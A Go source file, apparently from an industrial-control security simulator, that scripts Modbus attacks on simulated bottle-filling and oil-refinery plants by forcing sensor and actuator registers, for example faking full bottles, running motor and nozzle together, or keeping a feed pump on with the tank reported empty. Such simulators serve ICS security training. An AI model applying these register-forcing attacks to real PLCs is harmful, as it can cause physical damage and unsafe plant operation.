// Package attack replays scripted Modbus clients that fight the scan cycle
package attack

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log"
	"sort"
	"time"

	"github.com/lixenwraith/virtuaplant/plant"
	"github.com/lixenwraith/virtuaplant/plc"
)

// ErrUnknownScenario is returned by Lookup
var ErrUnknownScenario = errors.New("unknown attack scenario")

// Write forces one named register
type Write struct {
	Name  string
	Value uint16
}

// Scenario is one attack against a plant variant
type Scenario struct {
	Name        string
	Plant       string
	Description string

	// Writes are forced every round
	Writes []Write

	// Step, when set, decides each round from the last read image
	Step func(st *State, im plc.Image) []Write
}

// State carries what stateful scenarios remember between rounds
type State struct {
	Round    int
	Counter  int
	WasSet   bool
	Since    time.Time
	FillTime time.Duration
	Now      func() time.Time
}

var scenarios = []Scenario{
	{
		Name:        "never-stop",
		Plant:       "bottle-filling",
		Description: "Keep the conveyor moving by faking a full bottle away from the nozzle",
		Writes:      []Write{{plant.Run, 1}, {plant.LimitSwitch, 0}, {plant.LevelSensor, 1}},
	},
	{
		Name:        "stop-all",
		Plant:       "bottle-filling",
		Description: "Hold motor and nozzle off while the sensors claim an empty bottle in place",
		Writes: []Write{
			{plant.Run, 1}, {plant.LevelSensor, 0}, {plant.LimitSwitch, 1},
			{plant.Motor, 0}, {plant.Nozzle, 0},
		},
	},
	{
		Name:        "stop-and-fill",
		Plant:       "bottle-filling",
		Description: "Claim an empty bottle under the nozzle forever so liquid never stops",
		Writes:      []Write{{plant.Run, 1}, {plant.LevelSensor, 0}, {plant.LimitSwitch, 1}},
	},
	{
		Name:        "move-and-fill",
		Plant:       "bottle-filling",
		Description: "Run the motor and the nozzle together",
		Writes: []Write{
			{plant.Run, 1}, {plant.LevelSensor, 0}, {plant.LimitSwitch, 0},
			{plant.Motor, 1}, {plant.Nozzle, 1},
		},
	},
	{
		Name:        "skip-bottle",
		Plant:       "bottle-filling",
		Description: "Hide every other bottle from the limit switch so it leaves empty",
		Step:        skipBottle,
	},
	{
		Name:        "half-fill",
		Plant:       "bottle-filling",
		Description: "Time a normal fill, then cut the next ones short",
		Step:        halfFill,
	},
	{
		Name:        "constant-running",
		Plant:       "oil-refinery",
		Description: "Keep the feed pump on with the tank reported empty",
		Writes:      []Write{{plant.FeedPump, 1}, {plant.TankLevel, 0}, {plant.SeparatorVessel, 0}},
	},
	{
		Name:        "monitor",
		Description: "Read and log every register without writing",
		Step:        func(*State, plc.Image) []Write { return nil },
	},
}

// skipped bottles per passed bottle
const bottlesToSkip = 1

// halfFillRatio divides the measured fill time
const halfFillRatio = 2

func skipBottle(st *State, im plc.Image) []Write {
	limit := im.Bit(plant.LimitSwitch)
	defer func() { st.WasSet = limit }()
	if !limit || st.WasSet {
		return nil
	}
	st.Counter++
	if st.Counter > bottlesToSkip {
		st.Counter = 0
		return nil
	}
	return []Write{{plant.Run, 1}, {plant.LimitSwitch, 0}, {plant.Nozzle, 0}}
}

func halfFill(st *State, im plc.Image) []Write {
	now := st.Now()
	nozzle := im.Bit(plant.Nozzle)
	defer func() { st.WasSet = nozzle }()

	// Calibrate on the first complete fill
	if st.FillTime == 0 {
		switch {
		case nozzle && !st.WasSet:
			st.Since = now
		case !nozzle && st.WasSet && !st.Since.IsZero():
			st.FillTime = now.Sub(st.Since)
		}
		return nil
	}

	if nozzle && !st.WasSet {
		st.Since = now
	}
	if nozzle && now.Sub(st.Since) >= st.FillTime/halfFillRatio {
		return []Write{
			{plant.Run, 1}, {plant.LevelSensor, 1}, {plant.LimitSwitch, 0},
			{plant.Motor, 0}, {plant.Nozzle, 0},
		}
	}
	return nil
}

// Lookup returns a scenario by name
func Lookup(name string) (Scenario, error) {
	for _, s := range scenarios {
		if s.Name == name {
			return s, nil
		}
	}
	return Scenario{}, fmt.Errorf("%q: %w", name, ErrUnknownScenario)
}

// Names lists scenarios sorted by name
func Names() []string {
	names := make([]string, len(scenarios))
	for i, s := range scenarios {
		names[i] = s.Name
	}
	sort.Strings(names)
	return names
}

// Runner drives one scenario over a client
type Runner struct {
	client   *plc.Client
	scenario Scenario
	interval time.Duration
	logger   *log.Logger
	state    State
}

// NewRunner prepares s against c, one round per interval
func NewRunner(c *plc.Client, s Scenario, interval time.Duration, logger *log.Logger) (*Runner, error) {
	if s.Plant != "" && s.Plant != c.Map().Variant {
		return nil, fmt.Errorf("%s targets %s, connected plant map is %s", s.Name, s.Plant, c.Map().Variant)
	}
	if logger == nil {
		logger = log.New(io.Discard, "", 0)
	}
	return &Runner{
		client:   c,
		scenario: s,
		interval: interval,
		logger:   logger,
		state:    State{Now: time.Now},
	}, nil
}

// Round performs one read and the scenario's writes
func (r *Runner) Round() (plc.Image, error) {
	r.state.Round++
	im, err := r.client.Read()
	if err != nil {
		return im, err
	}

	writes := r.scenario.Writes
	if r.scenario.Step != nil {
		writes = append(append([]Write(nil), writes...), r.scenario.Step(&r.state, im)...)
	}
	for _, w := range writes {
		if err := r.client.Write(w.Name, w.Value); err != nil {
			return im, err
		}
	}
	return im, nil
}

// Run repeats Round until ctx is done or the connection fails
func (r *Runner) Run(ctx context.Context) error {
	ticker := time.NewTicker(r.interval)
	defer ticker.Stop()

	for {
		im, err := r.Round()
		if err != nil {
			return err
		}
		if r.scenario.Name == "monitor" {
			r.logger.Printf("[attack] %s", Format(im))
		}

		select {
		case <-ctx.Done():
			return nil
		case <-ticker.C:
		}
	}
}

// Format renders an image as name=value pairs in address order
func Format(im plc.Image) string {
	var out []byte
	for i, e := range im.Map.Entries {
		if i > 0 {
			out = append(out, ' ')
		}
		out = fmt.Appendf(out, "%s=%d", e.Name, im.Get(e.Name))
	}
	return string(out)
}
